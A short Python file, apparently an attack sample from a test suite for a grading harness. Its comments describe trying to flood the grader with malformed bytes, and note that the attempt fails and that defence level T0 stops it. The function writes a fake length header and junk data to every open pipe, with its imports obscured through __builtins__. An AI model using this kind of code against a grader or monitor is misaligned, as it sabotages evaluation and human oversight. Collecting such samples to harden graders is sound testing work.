# tries: to make the grader read nonsense: random lengths and bytes on every pipe
# fails: what is malformed ends the child, and the check has no points
# goal: exhaust
# stopped from: T0
# undefended: elsewhere: a crash of a reader that trusts lengths
os, stat = map(__builtins__["__import__"], ("os", "stat"))


def attack(*arguments, **keywords):
    for descriptor in range(64):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                os.write(descriptor, b"\xff\xff\xff\xff" + bytes(range(256)) * 16)
        except OSError:
            continue
